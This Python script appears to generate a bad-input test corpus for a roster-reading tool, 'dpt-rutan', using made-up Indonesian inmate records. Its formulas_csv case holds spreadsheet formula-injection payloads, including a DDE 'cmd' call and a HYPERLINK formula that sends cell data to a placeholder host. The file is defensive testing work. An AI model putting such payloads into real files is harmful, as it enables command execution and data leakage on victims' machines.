"""Write the bad-input corpus: the files a user can hand `dpt-rutan` that are broken, odd or hostile.

Run ``python tests/data/bad/make_bad_files.py`` to rewrite the files beside this script; ``tests/test_bad_files.py``
checks that every file listed in :data:`WRITERS` is there and runs each one through the CLI. The people in them are
made up from a seeded random generator, so the corpus is the same on every run (except the bytes that zip
timestamps and the encryption salt change).

Two cases are too big to keep in the repository and are written by the tests into a temporary folder, with
:func:`write_huge_cell_csv` (a 50 MB cell) and :func:`write_widest_sheet` (16,384 columns, Excel's limit). A folder,
a missing file and an unreadable file are made by the tests too.
"""

from __future__ import annotations

import csv
import io
import random
import re
import sys
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

import openpyxl
import xlwt
from msoffcrypto.format.ooxml import OOXMLFile
from openpyxl.utils import get_column_letter

HERE = Path(__file__).resolve().parent
SEED = 8
ROSTER_ROWS = 8
HUGE_CELL_BYTES = 50 * 1024 * 1024
EXCEL_MAX_COLUMNS = 16_384
PASSWORD = "rahasia"

HEADERS = ["NO", "NO. REGISTRASI", "NAMA", "NIK", "TEMPAT LAHIR", "TGL LAHIR", "JK", "ALAMAT", "KAB/KOTA"]
GIVEN = ["AGUS", "BAMBANG", "SITI", "SRI", "JOKO", "WAHYU", "DEWI", "SUPARNO", "RINA", "HERU", "ENDANG", "TRI"]
FAMILY = ["SANTOSO", "WIBOWO", "LESTARI", "HIDAYAT", "PRASETYO", "RAHAYU", "SAPUTRA", "WULANDARI"]
STREETS = ["JL. MELATI", "JL. A. YANI", "DK. SENDANG", "JL. KAMBOJA", "DK. BALONG"]
# Kecamatan codes of Kabupaten Blora (33.16) for the NIKs' issuing district.
DISTRICTS = ["01", "02", "05", "08", "09", "10", "14"]


def roster_rows(rng: random.Random, count: int = ROSTER_ROWS) -> list[list[object]]:
    """Made-up inmates of Rutan Blora whose NIK agrees with their birth date and sex, in the HEADERS columns."""
    rows = []
    for number in range(1, count + 1):
        female = rng.random() < 0.2
        born = date(rng.randint(1950, 2004), rng.randint(1, 12), rng.randint(1, 28))
        day = born.day + (40 if female else 0)
        nik = f"3316{rng.choice(DISTRICTS)}{day:02d}{born.month:02d}{born.year % 100:02d}{rng.randint(1, 30):04d}"
        rows.append(
            [
                number,
                f"AI.{rng.randint(100, 999):04d}/2023",
                f"{rng.choice(GIVEN)} {rng.choice(FAMILY)}",
                nik,
                "BLORA",
                born.strftime("%d-%m-%Y"),
                "P" if female else "L",
                f"{rng.choice(STREETS)} NO. {rng.randint(1, 120)}",
                "BLORA",
            ]
        )
    return rows


def csv_text(rows: list[list[object]], delimiter: str = ";") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


def xlsx_bytes(rows: list[list[object]], title: str = "DATA WBP") -> bytes:
    """A workbook as Excel users make it: a title block, then the header and the rows."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    sheet.append(["DAFTAR WARGA BINAAN PEMASYARAKATAN RUTAN KELAS IIB BLORA"])
    sheet.append([])
    for row in rows:
        sheet.append(row)
    workbook.properties.created = workbook.properties.modified = datetime(2024, 1, 15)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- The cases ----------------------------------------------------------------------------------------------------


def empty_csv(rng: random.Random) -> bytes:
    return b""


def empty_xlsx(rng: random.Random) -> bytes:
    """A download that failed: the name says workbook, the file holds nothing."""
    return b""


def header_only(rng: random.Random) -> bytes:
    return csv_text([HEADERS]).encode()


def no_nik_column(rng: random.Random) -> bytes:
    nik = HEADERS.index("NIK")
    return csv_text([[cell for j, cell in enumerate(row) if j != nik] for row in [HEADERS, *roster_rows(rng)]]).encode()


def two_nik_columns(rng: random.Random) -> bytes:
    """Two columns that both name the NIK exactly: which one holds it cannot be guessed."""
    rows = roster_rows(rng)
    header = [*HEADERS, "NOMOR INDUK KEPENDUDUKAN"]
    return csv_text([header, *[[*row, row[3][:12] + "0000"] for row in rows]]).encode()


def duplicate_headers(rng: random.Random) -> bytes:
    """Optional columns repeated under the same name: the first is used, the repeats are noted."""
    header = [*HEADERS, "ALAMAT", "NO"]
    return csv_text([header, *[[*row, "RT 1 RW 2", row[0]] for row in roster_rows(rng)]]).encode()


def duplicate_name_headers(rng: random.Random) -> bytes:
    """The required NAMA column twice, with different contents: the tool must not pick one."""
    header = [*HEADERS, "NAMA"]
    return csv_text([header, *[[*row, f"{row[2]} als {rng.choice(GIVEN)}"] for row in roster_rows(rng)]]).encode()


def password_xlsx(rng: random.Random) -> bytes:
    plain = OOXMLFile(io.BytesIO(xlsx_bytes([HEADERS, *roster_rows(rng)])))
    encrypted = io.BytesIO()
    plain.encrypt(PASSWORD, encrypted)
    return encrypted.getvalue()


def truncated_xlsx(rng: random.Random) -> bytes:
    """A workbook cut off half way, as an interrupted download or e-mail attachment leaves it."""
    whole = xlsx_bytes([HEADERS, *roster_rows(rng)])
    return whole[: len(whole) // 2]


def corrupt_sheet_xlsx(rng: random.Random) -> bytes:
    """A sound zip whose sheet XML is damaged: the workbook opens, the sheet does not."""
    return _replace_in_zip(
        xlsx_bytes([HEADERS, *roster_rows(rng)]), "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row"
    )


def xls_renamed_xlsx(rng: random.Random) -> bytes:
    """A legacy .xls saved under an .xlsx name: readable, by its content."""
    book = xlwt.Workbook()
    sheet = book.add_sheet("DATA WBP")
    for i, row in enumerate([HEADERS, *roster_rows(rng)]):
        for j, value in enumerate(row):
            sheet.write(i, j, value)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def utf16_csv(rng: random.Random) -> bytes:
    """Excel's "Unicode Text": UTF-16 with a BOM, tab-delimited."""
    return csv_text([HEADERS, *roster_rows(rng)], delimiter="\t").encode("utf-16")


def utf16_no_bom_csv(rng: random.Random) -> bytes:
    return csv_text([HEADERS, *roster_rows(rng)], delimiter="\t").encode("utf-16-le")


def mixed_delimiters(rng: random.Random) -> bytes:
    """Semicolons, but rows pasted in from another file use commas: those rows land in one cell."""
    rows = roster_rows(rng)
    lines = [
        csv_text([HEADERS]),
        *[csv_text([row], delimiter="," if i % 3 == 1 else ";") for i, row in enumerate(rows)],
    ]
    return "".join(lines).encode()


def ragged(rng: random.Random) -> bytes:
    """Rows with cells missing at the end, and rows with cells past the last header."""
    rows = roster_rows(rng)
    rows[1] = rows[1][:4]
    rows[3] = [*rows[3], "CATATAN", "LAIN"]
    rows[5] = rows[5][:6]
    return csv_text([HEADERS, *rows]).encode()


def long_names(rng: random.Random) -> bytes:
    rows = roster_rows(rng)
    for row in rows[::2]:
        words = " ".join(rng.choice(GIVEN + FAMILY) for _ in range(200))
        row[2] = words[:999] + "I"  # a letter last: the reader strips a trailing space, as it should
    return csv_text([HEADERS, *rows]).encode()


def nul_bytes(rng: random.Random) -> bytes:
    """A text export with stray NUL bytes in a few cells, as some database exports leave them."""
    rows = roster_rows(rng)
    rows[2][2] = f"{rows[2][2]}\x00\x00"
    rows[4][7] = f"\x00{rows[4][7]}"
    return csv_text([HEADERS, *rows]).encode()


def formulas_csv(rng: random.Random) -> bytes:
    """Cells a spreadsheet would run as formulas: read as text, and never written back as live formulas."""
    rows = roster_rows(rng)
    rows[0][2] = '=HYPERLINK("http://example.invalid/?d="&A1,"klik")'
    rows[1][7] = "=SUM(1+1)*cmd|' /C calc'!A0"
    rows[2][2] = "+62 ADI"
    rows[3][2] = "@SUM(A1:A9)"
    rows[4][3] = "=3316090101900001"
    return csv_text([HEADERS, *rows]).encode()


def formulas_xlsx(rng: random.Random) -> bytes:
    """Formula cells with the values Excel cached for them: the value is read, the formula is never run."""
    rows = roster_rows(rng)
    rows[0][0] = "=SUM(1,0)"
    rows[1][2] = '=CONCATENATE("BUDI"," ","SANTOSO")'
    rows[2][3] = '=TEXT(3316090101900001,"0")'
    cached = {"SUM(1,0)": "1", "CONCATENATE(": "BUDI SANTOSO", "TEXT(": "3316090101900001"}
    return _cache_formula_values(xlsx_bytes([HEADERS, *rows]), cached)


def dates_extreme_csv(rng: random.Random) -> bytes:
    rows = roster_rows(rng)
    for row, written in zip(rows, ["31-12-9999", "01-01-2999", "01-01-1850", "29-02-1899", "01-01-0001"], strict=False):
        row[5] = written
    return csv_text([HEADERS, *rows]).encode()


def dates_extreme_xlsx(rng: random.Random) -> bytes:
    """Dates at the ends of what Excel holds (9999-12-31; 1900-01-01, its first day), and 1850, which it keeps as
    text only."""
    rows = roster_rows(rng)
    rows[0][5] = datetime(9999, 12, 31)
    rows[1][5] = datetime(2999, 1, 1)
    rows[2][5] = datetime(1900, 1, 1)
    rows[3][5] = "01-01-1850"
    return xlsx_bytes([HEADERS, *rows])


WRITERS: dict[str, Callable[[random.Random], bytes]] = {
    "empty.csv": empty_csv,
    "empty.xlsx": empty_xlsx,
    "header_only.csv": header_only,
    "no_nik_column.csv": no_nik_column,
    "two_nik_columns.csv": two_nik_columns,
    "duplicate_headers.csv": duplicate_headers,
    "duplicate_name_headers.csv": duplicate_name_headers,
    "password.xlsx": password_xlsx,
    "truncated.xlsx": truncated_xlsx,
    "corrupt_sheet.xlsx": corrupt_sheet_xlsx,
    "xls_renamed.xlsx": xls_renamed_xlsx,
    "utf16.csv": utf16_csv,
    "utf16_no_bom.csv": utf16_no_bom_csv,
    "mixed_delimiters.csv": mixed_delimiters,
    "ragged.csv": ragged,
    "long_names.csv": long_names,
    "nul_bytes.csv": nul_bytes,
    "formulas.csv": formulas_csv,
    "formulas.xlsx": formulas_xlsx,
    "dates_extreme.csv": dates_extreme_csv,
    "dates_extreme.xlsx": dates_extreme_xlsx,
}
"""File name -> the function that makes its bytes; each gets its own generator seeded from SEED and the name."""


# --- Too big to keep: written by the tests ------------------------------------------------------------------------


def write_huge_cell_csv(path: Path, size: int = HUGE_CELL_BYTES) -> Path:
    """A roster CSV whose third person's name is ``size`` bytes long (a pasted blob)."""
    rows = roster_rows(random.Random(SEED))
    marker = "HUGE-CELL-HERE"
    rows[2][2] = marker
    before, after = csv_text([HEADERS, *rows]).split(marker)
    with path.open("wb") as handle:
        handle.write(before.encode())
        handle.write(b"A" * size)
        handle.write(after.encode())
    return path


def write_widest_sheet(path: Path, rows: int = 4) -> Path:
    """A workbook with a header and ``rows`` people across all 16,384 columns Excel allows."""
    rng = random.Random(SEED)
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("DATA WBP")
    filler = [f"KOLOM {get_column_letter(j + 1)}" for j in range(len(HEADERS), EXCEL_MAX_COLUMNS)]
    sheet.append([*HEADERS, *filler])
    for row in roster_rows(rng, rows):
        sheet.append([*row, *(rng.choice("xyz") for _ in filler)])
    workbook.save(path)
    return path


# --- Helpers ------------------------------------------------------------------------------------------------------


def _replace_in_zip(data: bytes, member: str, content: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, content if info.filename == member else source.read(info))
    return out.getvalue()


def _cache_formula_values(data: bytes, cached: dict[str, str]) -> bytes:
    """Give each formula the value Excel would have cached beside it (openpyxl writes formulas without one)."""
    member = "xl/worksheets/sheet1.xml"
    xml = zipfile.ZipFile(io.BytesIO(data)).read(member).decode()

    def with_value(match: re.Match[str]) -> str:
        formula = match.group(2)
        value = next(v for prefix, v in cached.items() if formula.startswith(prefix))
        kind = "" if value.isdigit() and len(value) < 16 else ' t="str"'
        return f"<c{match.group(1)}{kind}><f>{formula}</f><v>{value}</v></c>"

    xml = re.sub(r"<c([^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?</c>", with_value, xml)
    return _replace_in_zip(data, member, xml.encode())


def write_corpus(folder: Path = HERE) -> list[Path]:
    written = []
    for name, writer in WRITERS.items():
        path = folder / name
        path.write_bytes(writer(random.Random(f"{SEED}:{name}")))
        written.append(path)
    return written


if __name__ == "__main__":
    for written_path in write_corpus(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE):
        print(written_path)
